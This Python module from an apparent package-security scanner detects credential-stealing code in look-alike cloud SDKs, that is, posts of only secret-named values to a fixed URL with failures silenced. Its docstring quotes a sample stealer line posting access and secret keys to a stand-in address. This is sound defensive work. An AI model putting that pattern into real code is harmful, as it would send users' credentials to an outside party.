"""Credentials posted and forgotten: the keys a client holds sent to a fixed address.

A look-alike of a cloud SDK keeps the SDK's code and adds, where its client
takes the user's keys, one statement: ``try: requests.post("https://x/y",
json={"ak": key_id, "sk": secret}) except: pass``. An honest client sends its
keys (if at all) to the service it is configured for, and reads the answer:
it needs the token or the error. This post goes to a literal address, its
answer is thrown away and any failure silenced, and it carries nothing but
the credentials: a stealer's shape wherever it sits (``steal-send``, 6).
"""

from __future__ import annotations

import ast
import re

from guard.analysis.scan.hits import CREDENTIAL_ACCESS
from guard.analysis.scan.python.context import Context

# Sends whose answer a caller needs (a client's or a session's method)
_SENDS = frozenset({"post", "put", "patch", "request"})
# The name of a key or a value that holds a credential
_SECRET = re.compile(
    r"secret|passw|token|api_?key|access_?key|private_?key|credential|^_?(?:ak|sk)$", re.I
)
# The cheap looks: a silenced failure, and a send whose call holds a literal
# address (up to two levels of brackets inside the call before it); a pattern per
# send, each starting with its word (a search for one word is fast, for any of
# four words slow)
_LOOK = re.compile(r"except[^\n]*:\s*\n?\s*pass\b")
_CALL_TO_ADDRESS = r"\s*\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*?[\"']https?://"
_SENDS_TO_ADDRESS = tuple(re.compile(send + _CALL_TO_ADDRESS) for send in sorted(_SENDS))


def silent_posts(cx: Context, tree: ast.Module, source: str) -> None:
    """Hit each post of credentials to a literal address whose answer is thrown
    away and whose failure is silenced (see the module docstring)."""
    if _LOOK.search(source) is None:
        return
    if not any(send.search(source) for send in _SENDS_TO_ADDRESS):
        return
    for node in ast.walk(tree):
        if isinstance(node, ast.Try) and _silenced(node):
            _look_at(cx, node)


def _silenced(node: ast.Try) -> bool:
    """Every handler of the ``try`` only passes."""
    return bool(node.handlers) and all(
        all(isinstance(s, ast.Pass) for s in h.body) for h in node.handlers
    )


def _look_at(cx: Context, node: ast.Try) -> None:
    assigned: dict[str, ast.expr] = {}
    for statement in node.body:
        if isinstance(statement, ast.Assign) and len(statement.targets) == 1:
            target = statement.targets[0]
            if isinstance(target, ast.Name):
                assigned[target.id] = statement.value
        elif isinstance(statement, ast.Expr) and isinstance(statement.value, ast.Call):
            call = statement.value
            if _post_to_literal(call) and _carries_credentials(call, assigned):
                name = cx.qual(call.func)
                text = (
                    f"sends the credentials it holds to a fixed address, its answer "
                    f"thrown away and any failure silenced ({name})"
                )
                cx.hit(CREDENTIAL_ACCESS, "steal-send", 6.0, call, text)


def _post_to_literal(call: ast.Call) -> bool:
    """``requests.post("https://...", ...)``, ``session.request(url="https://...",
    method="POST", ...)``: a send (of an HTTP client or a session of one) to a
    literal address."""
    func = call.func
    if not isinstance(func, ast.Attribute) or func.attr not in _SENDS:
        return False
    at = 1 if func.attr == "request" else 0
    url = next((k.value for k in call.keywords if k.arg == "url"), None)
    if url is None and len(call.args) > at:
        url = call.args[at]
    return (
        isinstance(url, ast.Constant)
        and isinstance(url.value, str)
        and url.value.startswith(("http://", "https://"))
    )


def _carries_credentials(call: ast.Call, assigned: dict[str, ast.expr]) -> bool:
    """The payload is a dict (or a name the ``try`` assigns one) whose keys or
    values name credentials only."""
    for keyword in call.keywords:
        if keyword.arg not in {"json", "data", "params"}:
            continue
        payload = keyword.value
        if isinstance(payload, ast.Name):
            payload = assigned.get(payload.id, payload)
        if isinstance(payload, ast.Dict) and payload.keys:
            return all(
                _names_secret(k, v) for k, v in zip(payload.keys, payload.values, strict=True)
            )
    return False


def _names_secret(key: ast.expr | None, value: ast.expr) -> bool:
    word = key.value if isinstance(key, ast.Constant) and isinstance(key.value, str) else ""
    held = value.attr if isinstance(value, ast.Attribute) else getattr(value, "id", "")
    return bool(_SECRET.search(word) or _SECRET.search(str(held)))
